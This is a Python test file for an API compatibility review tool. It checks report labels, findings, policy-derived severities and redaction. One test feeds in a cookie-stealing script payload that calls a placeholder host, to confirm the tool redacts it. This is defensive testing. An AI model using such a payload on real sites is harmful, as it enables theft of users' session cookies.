"""What the demo's artifact says and does not say: labels, findings, unknowns, nothing invented."""

from __future__ import annotations

import hashlib
import json
import re

import pytest

from evreview.core.document_text import parse_text
from evreview.evidence.bundle_reader import open_bundle
from evreview.report.validate import validate_artifact
from evreview.workflows.session import review
from evreview.workflows.w1 import matrix
from tests.golden.editing import Append, Delete, Replace, Set
from tests.golden.runs import DEMO, LABELS, finished, section, statements, tables, varied
from tests.golden.variants import ROLLOUT

ARTIFACT_WORDS = re.compile(r"`([^`\n]+)`")
FINDING_COLUMNS = (
    "Severity", "Confidence", "Finding", "Evidence", "Impact", "Recommendation", "Verification", "Disposition",
)  # fmt: skip


def artifact() -> str:
    return finished("demo").artifact


def evidence() -> str:
    """All evidence of the demo as one text."""
    return "\n".join(path.read_text() for path in sorted(DEMO.rglob("*")) if path.is_file())


def findings(text: str) -> list[dict[str, str]]:
    return [dict(row) for row in tables(section(text, "Findings"))[0]]


def about_differences(text: str) -> list[dict[str, str]]:
    """The findings about a row of the ledger."""
    return [finding for finding in findings(text) if re.search(r"\(#d-[0-9a-f]{12}\)", finding["Finding"])]


def labelled(label: str) -> int:
    """How many statements of a kind the artifact has, in lists and in cells."""
    text = artifact()
    return sum(found == label for found, _ in statements(text)) + len(re.findall(rf"(?:\| |<br>){label}: ", text))


@pytest.mark.parametrize(
    "label",
    [
        pytest.param("Observation", marks=pytest.mark.req("C-008")),
        pytest.param("Inference", marks=pytest.mark.req("C-009")),
        pytest.param("Recommendation", marks=pytest.mark.req("C-010")),
        pytest.param("Executed check", marks=pytest.mark.req("C-011")),
        pytest.param("Proposed check", marks=pytest.mark.req("C-012")),
        pytest.param("Assumption", marks=pytest.mark.req("C-013")),
        pytest.param("Limitation", marks=pytest.mark.req("C-014")),
        pytest.param("Next action", marks=pytest.mark.req("C-015")),
    ],
)
def test_each_kind_of_statement_has_its_own_label(label: str) -> None:
    assert labelled(label) > 0
    for found, rest in statements(artifact()):
        assert found in LABELS
        assert not re.match(rf"({'|'.join(LABELS)}):", rest)


@pytest.mark.parametrize(
    "column",
    [
        pytest.param("Severity", marks=pytest.mark.req("W1F-001")),
        pytest.param("Confidence", marks=pytest.mark.req("W1F-002")),
        pytest.param("Finding", marks=pytest.mark.req("W1F-003")),
        pytest.param("Evidence", marks=pytest.mark.req("W1F-004")),
        pytest.param("Impact", marks=pytest.mark.req("W1F-005")),
        pytest.param("Recommendation", marks=pytest.mark.req("W1F-006")),
        pytest.param("Verification", marks=pytest.mark.req("W1F-007")),
        pytest.param("Disposition", marks=pytest.mark.req("W1F-008")),
    ],
)
def test_every_finding_fills_every_column(column: str) -> None:
    rows = findings(artifact())
    assert len(rows) >= 3
    assert tuple(rows[0]) == FINDING_COLUMNS
    assert [row for row in rows if not row[column].strip()] == []
    assert all(re.match(r"E\d", row["Evidence"]) for row in rows), "evidence is an item, not a word for none"


@pytest.mark.req("W1F-009")
def test_findings_refer_to_rows_with_both_classifications() -> None:
    matrix = [row for table in tables(section(artifact(), "Compatibility matrix")) for row in table]
    rows = {re.findall(r"D-[0-9a-f]{12}", row["Difference"])[0]: row for row in matrix}
    for finding in about_differences(artifact()):
        (number, *_) = re.findall(r"\(#d-([0-9a-f]{12})\)", finding["Finding"])
        delta = f"D-{number}"
        assert rows[delta]["Producer direction"].strip()
        assert rows[delta]["Consumer direction"].strip()


@pytest.mark.req("W1F-010", "W1F-011")
def test_impact_separates_observation_from_inference_and_names_preconditions() -> None:
    told = section(artifact(), "Findings")
    ran = [found for found in findings(artifact()) if "Executed check" in found["Verification"]]
    assert ran
    assert all("Observation: run: " in found["Impact"] for found in ran)
    for finding in findings(artifact()):
        (name, *_) = re.findall(r"F-[0-9a-f]{12}", finding["Finding"])
        assert "Inference: " in finding["Impact"]
        assert re.search(rf"\*\*Limitation:\*\* Preconditions of [^\n]*{name}", told)


@pytest.mark.req("W1F-013")
def test_severity_is_a_word_of_the_policy_and_cites_it() -> None:
    found = about_differences(artifact())
    rated = [finding for finding in found if not finding["Severity"].startswith("not rated")]
    assert {finding["Severity"].split(" ")[0] for finding in rated} == {"High", "Medium"}
    for finding in rated:
        ((word, rule),) = re.findall(r"(\w+) \((rules/\d+)\)", finding["Severity"])
        quoted = rf"\*\*Observation:\*\* Rule `{rule}` rates `{word}`: `[^`]+`"
        assert re.search(quoted, section(artifact(), "Findings"))
        assert re.search(r"\bE5:L\d+", finding["Evidence"])
    assert found == rated
    lower = varied((Replace("policy/compatibility-policy.yaml", "severity: High", "severity: Medium"),))
    words = {finding["Severity"].split(" ")[0] for finding in about_differences(lower.artifact)}
    assert words == {"Medium"}


@pytest.mark.req("W1I-011")
def test_the_disposition_is_the_policys_sentence_for_the_severity() -> None:
    policy, word = "policy/compatibility-policy.yaml", {"High": "held back whole", "Medium": "waits a fortnight"}
    for finding in about_differences(artifact()):
        assert not any(says in finding["Disposition"] for says in word.values())
    stated = varied((Set(policy, "/disposition_per_severity", word),))
    rated = {"High": 0, "Medium": 0}
    for finding in about_differences(stated.artifact):
        severity = finding["Severity"].split(" ")[0]
        rated[severity] += 1
        assert [says for says in word.values() if says in finding["Disposition"]] == [
            word[severity] for _ in range(severity in word)
        ]
    assert all(rated.values())


@pytest.mark.req("W1F-015", "W1I-011")
def test_without_a_rubric_nothing_is_rated() -> None:
    policy = "policy/compatibility-policy.yaml"
    unrated = varied(
        (Set(policy, "/rules", []), Set(policy, "/severities", []), Set(policy, "/disposition_per_severity", {}))
    )
    rows = findings(unrated.artifact)
    assert rows
    assert {row["Severity"].startswith("not rated") for row in rows} == {True}
    assert not re.search(r"\| (High|Medium|Critical|Low) \(rules/", unrated.artifact)


@pytest.mark.req("W1G-002", "ER-001", "W1L-020")
def test_error_shapes_nullability_and_defaults_are_never_changed_silently() -> None:
    aspects = set(finished("demo").registers["compatibility-matrix"]["aspect"].astype(str))
    assert {"content-types", "nullability", "enums", "fields"} <= aspects
    titles = " ".join(finding["Finding"] for finding in findings(artifact()))
    assert "404 has another content type" in titles
    assert "deliveryEstimate" in titles
    announced = [text for label, text in statements(artifact()) if label == "Recommendation" and "Announce" in text]
    frame = finished("demo").registers["findings"]
    printed = {re.findall(r"F-[0-9a-f]{12}", found["Finding"])[0] for found in findings(artifact())}
    for found in frame[~frame["finding_id"].isin(printed)]["delta_id"]:
        assert any(found in text for text in announced)
    assert "list_orders.py" in artifact()


@pytest.mark.req("W1L-020")
def test_a_declared_default_that_changes_is_a_row() -> None:
    pointer = "/components/schemas/NewOrder/properties/note/default"
    edits = (
        Set("contracts/orders-1.4.yaml", pointer, "none"),
        Set("contracts/orders-1.5.yaml", pointer, "leave at door"),
    )
    frame = varied(edits).registers["compatibility-matrix"]
    assert "defaults" in set(frame["aspect"].astype(str))


@pytest.mark.req("W1G-001", "ER-002", "C-032")
def test_an_internal_field_of_an_error_body_is_a_finding() -> None:
    candidate = "contracts/orders-1.5.yaml"
    exposed = varied((Set(candidate, "/components/schemas/Problem/properties/stackTrace", {"type": "string"}),))
    assert any("stackTrace" in finding["Finding"] for finding in findings(exposed.artifact))
    told = [text.split(" [E")[0] for label, text in statements(exposed.artifact) if label == "Recommendation"]
    assert not any("stackTrace" in text for text in told)


@pytest.mark.req("W1P-004")
def test_payloads_that_are_not_sanitized_keep_step_3() -> None:
    observed = "observations/recorded-responses.yaml"
    mail = "maria.keller" + "@" + "kunden-mail.de"
    leaking = varied((Set(observed, "/observations/released-order/body/note", mail),))
    last = leaking.steps[-1]
    assert (last.number, str(last.state), last.code) == (3, "remain", "")
    assert mail not in leaking.artifact


@pytest.mark.req("W1I-004")
def test_unconfirmed_completeness_is_a_recorded_gap() -> None:
    gap = "complete for the reviewed surface"
    unconfirmed = varied((Set("review.yaml", "/surface_complete", False),)).artifact
    assert any(gap in text for label, text in statements(unconfirmed) if label == "Limitation")
    assert not any(gap in text for label, text in statements(artifact()) if label == "Limitation")


@pytest.mark.req("W1I-012")
def test_policy_version_and_surface_are_stated() -> None:
    (stated,) = [text for label, text in statements(artifact()) if text.startswith("Surface: ")]
    assert "policy version `3` for `every public HTTP API of the Example Shop`" in stated
    assert "E5]" in stated


def nullability_id() -> str:
    frame = finished("demo").registers["compatibility-matrix"]
    (found,) = frame.loc[frame["aspect"] == "nullability", "delta_id"]
    return str(found)


@pytest.mark.req("C-022")
def test_a_classification_is_verified_only_while_its_check_has_a_result() -> None:
    def verified(text: str) -> bool:
        matrix = tables(section(text, "Compatibility matrix"))[0]
        (row,) = [row for row in matrix if "deliveryEstimate" in row["Difference"]]
        return "verified by a retained result" in row["Producer direction"] + row["Consumer direction"]

    assert not verified(artifact()), "a parser check never verifies the producer"
    named = Set("checks/contract-checks.yaml", "/checks/producer-emits-candidate-responses/deltas", [nullability_id()])
    assert verified(varied((named,)).artifact)
    unproven = varied((Delete("checks/contract-checks.yaml", "/checks/ledger-export-parses-null-estimate/result"),))
    (check,) = [
        row
        for row in tables(section(unproven.artifact, "Proposed"))[0]
        if "ledger-export-parses-null-estimate" in row["Check"]
    ]
    assert check["What stays unverified"]
    assert "High" not in {finding["Severity"].split(" ")[0] for finding in findings(unproven.artifact)}


@pytest.mark.parametrize(
    "pattern",
    [
        pytest.param(r"\b(?:GET|POST|PUT|PATCH|DELETE) /[\w/{}.-]+", marks=pytest.mark.req("C-037")),
        pytest.param(r"\bresponse (\d{3})\b", marks=pytest.mark.req("C-039")),
        pytest.param(r"> (\w+)`", marks=pytest.mark.req("C-038")),
        pytest.param(r"\bheader:? ([\w-]+)\b", marks=pytest.mark.req("C-040")),
        pytest.param(
            r"\b(\d+(?:\.\d+)?) (?:percentage points|minutes?|days)\b", marks=pytest.mark.req("C-041", "LM-001")
        ),
        pytest.param(r"executed: (passed|failed)", marks=pytest.mark.req("C-043")),
    ],
)
def test_every_token_comes_from_the_evidence(pattern: str) -> None:
    known = re.sub(r"\{[^{}/]+\}", "{}", evidence())
    for found in re.findall(pattern, artifact()):
        token = re.escape(re.sub(r"\{[^{}/]+\}", "{}", found).split(" ")[-1].rstrip("/"))
        assert re.search(rf"(?<![\w.]){token}(?!\w)", known), found


@pytest.mark.req("C-043")
def test_every_printed_result_is_that_of_its_check() -> None:
    checks = parse_text((DEMO / "checks" / "contract-checks.yaml").read_bytes(), "checks")["checks"]  # type: ignore[index, call-overload]
    results = {check["id"]: check["result"] for check in checks if "result" in check}  # type: ignore[union-attr, index, call-overload]
    printed = {row["Check"].split("`")[1]: row["Result"] for row in tables(section(artifact(), "Executed"))[0]}
    assert printed == {name: f"executed: {result}" for name, result in results.items()}
    assert set(results.values()) == {"passed", "failed"}


@pytest.mark.req("C-042", "C-035")
def test_witness_payloads_hold_no_observed_value() -> None:
    done = finished("demo")
    assert done.ledger is not None
    observed = parse_text((DEMO / "observations" / "recorded-responses.yaml").read_bytes(), "observations")
    bodies = [one["body"] for one in observed["observations"]]  # type: ignore[index, call-overload]
    values = {value for body in bodies for value in body.values() if isinstance(value, str)}
    for row in done.ledger.rows:
        text = json.dumps(row.proof.witness, default=str)
        assert not [value for value in values - {"shipped", "partially_shipped"} if value in text]


@pytest.mark.req("C-036")
def test_hosts_are_synthetic() -> None:
    hosts = set(re.findall(r"https?://([\w.-]+)", artifact() + evidence()))
    assert all(re.search(r"(^|\.)(example|test|invalid|localhost|example\.(com|org|net))$", host) for host in hosts)


@pytest.mark.req("C-037", "C-038", "C-044")
def test_what_leaves_the_evidence_leaves_the_artifact() -> None:
    without = varied(
        (
            Delete("contracts/orders-1.5.yaml", "/paths/~1v1~1orders/get/parameters/3"),
            Delete("implementation/mapping.yaml", "/mappings/3"),
        )
    )
    assert "placedAfter" in artifact()
    assert "query placedAfter" not in without.artifact


@pytest.mark.req("C-043", "C-047")
def test_a_result_that_leaves_the_evidence_is_no_longer_executed() -> None:
    done = varied((Delete("review.yaml", "/evidence/E7"), Set("decisions.yaml", "/decisions", [])))
    assert not re.search(r"executed: (passed|failed)", done.artifact)
    assert any("unverified" in text for _, text in statements(section(done.artifact, "Verification plan")))


@pytest.mark.req("C-045")
def test_unlisted_consumers_are_stated_as_unknown() -> None:
    register = tables(section(artifact(), "Client-impact register"))[0]
    assert [row for row in register if "unlisted" in row["Client"] and "unknown" in row["Impact"].lower()]


@pytest.mark.req("C-046")
def test_deployment_is_stated_as_unknown() -> None:
    limits = [text for label, text in statements(section(artifact(), "Limitations")) if label == "Limitation"]
    assert [text for text in limits if "deployed" in text and "unknown" in text]


@pytest.mark.req("LM-001", "W1M-014")
def test_policy_numbers_come_from_the_policy_only() -> None:
    numbers = re.compile(r"\b(0\.5 percentage points|30 minutes|30 days|1 minute)\b")
    policy = "policy/compatibility-policy.yaml"
    assert numbers.search(artifact())
    other = varied(
        (
            Set(policy, "/monitoring/abort_margin_percentage_points", 0.75),
            Set(policy, "/monitoring/window_minutes", 45),
            Set(policy, "/monitoring/resolution_minutes", 5),
            Set(policy, "/removal/notice_days", 21),
            Set(policy, "/removal/text", "Removal needs notice."),
            Set(policy, "/monitoring/text", "Abort early."),
        )
    ).artifact
    assert not numbers.search(other)
    assert all(part in other for part in ("0.75 percentage points", "45 minutes", "21 days"))
    assert not numbers.search(finished("step-4-no-policy").artifact)


@pytest.mark.req("SV-003", "SV-005", "ER-004")
def test_the_artifact_asserts_nothing_about_evreview_as_a_service() -> None:
    own = ARTIFACT_WORDS.sub("", artifact())
    assert not re.search(r"\b(emits? (an )?events?|rate limit|quota|time-?out|request size)\b", own, re.I)
    assert not re.search(r"W1-F\d[^\n]{0,20}\b[45]\d\d\b", own)


@pytest.mark.req("W1U-001", "W1U-002", "W1U-003")
def test_a_contract_change_with_a_removal_is_taken_and_decided() -> None:
    done = finished("demo")
    assert [step.number for step in done.steps] == list(range(1, 10))
    assert tables(section(done.artifact, "Decision record"))
    removals = [rows for rows in tables(section(done.artifact, "Decision record")) if "Element" in rows[0]]
    assert "legacyReference" in removals[0][0]["Element"]
    assert "E10" in removals[0][0]["Evidence"]


@pytest.mark.req("C-034")
def test_reusable_exploit_material_is_redacted() -> None:
    payload = "<script>fetch('https://collect.example/'+document.cookie)</script>"
    noted = {"kind": "note", "subject": "E3", "role": "Reviewer", "at": "2026-11-17T08:00:00+00:00", "text": payload}
    done = varied((Append("decisions.yaml", "/decisions", noted), Set("review.yaml", "/title", f"Orders {payload}")))
    assert "<script" not in done.artifact


@pytest.mark.req("C-006")
def test_an_item_that_nothing_cites_is_reported() -> None:
    spare = {"id": "E99", "type": "source excerpt", "content": "a remark", "integrity": f"sha256:{'0' * 64}",
             "establishes": "Nothing in particular."}  # fmt: skip
    spare["integrity"] = "sha256:" + hashlib.sha256(b"a remark").hexdigest()
    done = varied((Append("review.yaml", "/evidence", spare),))
    [items] = [table for table in tables(section(done.artifact, "Traceability")) if "Establishes" in table[0]]
    used = {row["Evidence"]: row["State"] for row in items}
    assert "cited by nothing" not in used["E1"]
    assert used["E99"].endswith("cited by nothing")


@pytest.mark.parametrize(
    ("edits", "label", "cited"),
    [((), "Observation", "[E9#/approval\\_state]"), ((Delete(ROLLOUT, "/approval_state"),), "Limitation", "[E9]")],
    ids=["stated", "not stated"],
)
def test_the_rollout_records_own_approval_is_told(edits: tuple[Delete, ...], label: str, cited: str) -> None:
    told = statements(section(varied(edits).artifact, "Monitoring and rollback"))
    assert [(found, rest.endswith(cited)) for found, rest in told if "rollout record" in rest] == [(label, True)]


def test_very_many_compatible_differences_stand_folded_by_operation(monkeypatch: pytest.MonkeyPatch) -> None:
    """Each stays a row of the register; the count says so, and the artifact keeps its contract."""
    monkeypatch.setattr(matrix, "FOLDED", 2)
    done = review(open_bundle(DEMO))
    found = section(done.artifact, "Compatibility matrix")
    assert "### Compatible differences by operation" in found and "### Compatible differences\n" not in found
    rows = [row for table in tables(found) for row in table if "Difference" in row]
    folded = [row for table in tables(found) for row in table if "Compatible differences" in row]
    assert len(rows) + sum(int(row["Compatible differences"]) for row in folded) == 10
    assert len(done.registers["compatibility-matrix"]) == 10
    assert validate_artifact(done.artifact, bundle=done.bundle) == ()
    head, mark, rest = done.artifact.partition("### Compatible differences by operation")
    wrong = head + mark + re.sub(r"\| \d+ \|", "| 17 |", rest, count=1)
    assert "count-differs" in {problem.code for problem in validate_artifact(wrong)}


def test_of_many_operations_the_rest_is_summed() -> None:
    """The table at a glance has eight rows; a shared field counts once in the sum."""
    sides = ("contracts/orders-1.4.yaml", "contracts/orders-1.5.yaml")
    order = {
        "200": {"description": "", "content": {"application/json": {"schema": {"$ref": "#/components/schemas/Order"}}}}
    }
    more = tuple(
        Set(side, f"/paths/~1v1~1orders~1z{number}", {"get": {"responses": order}})
        for side in sides
        for number in range(12)
    )
    done = varied(more)
    glance = next(table for table in tables(section(done.artifact, "Scope")) if "Breaking" in table[0])
    assert len(glance) == 8
    assert [row["Operation"] for row in glance][-1] == "9 more"
    assert (glance[-1]["Breaking"], glance[-1]["Compatible"]) == ("2", "1")
    assert validate_artifact(done.artifact, bundle=done.bundle) == ()


PARTNER = {
    "id": "partner-feed", "name": "Partner feed", "versions": ["1.0"],
    "accepted_content_types": ["application/json", "application/problem+json"],
    "uses": [{"operation": "PATCH /v1/orders/{orderId}", "fields": ["id", "message"], "statuses": ["200", "404"]}],
    "accepts_null": "all", "unknown_fields": "rejected", "unknown_enum_values": "tolerated",
    "owner_role": "Partner owner", "migration_status": "identified",
}  # fmt: skip
"""A client that an added member may break, although the contract permits it."""


def test_no_finding_says_that_no_client_fails_beside_one_that_may() -> None:
    done = varied((Append("clients/inventory.yaml", "/clients", PARTNER),))
    told = [row["Impact"] for row in about_differences(done.artifact) if "`partner-feed`" in row["Impact"]]
    assert len(told) >= 3 and all("declared:" in each and "may fail" in each for each in told), told
    assert validate_artifact(done.artifact) == ()
